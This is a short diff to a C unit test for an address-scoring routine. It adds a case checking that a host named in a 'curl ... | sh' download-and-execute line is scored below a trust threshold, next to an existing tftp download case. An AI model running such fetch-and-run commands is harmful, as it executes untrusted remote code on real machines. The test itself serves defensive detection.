@@ -320,6 +320,8 @@ static void test_ipscan_download_command_host_is_mentioned(void **state)
 	assert_true(score_of(log, "198.51.100.201") < IPSCAN_SELECT);
 	assert_true(score_of("  tftp -g -r x 198.51.100.202\n",
 			     "198.51.100.202") < IPSCAN_TRUST_BODY);
+	assert_true(score_of("curl -fsSL http://198.51.100.203/d.sh | sh\n",
+			     "198.51.100.203") < IPSCAN_TRUST_BODY);
 }
 
 /* A denial anywhere in the sentence of a sole address counts for it,
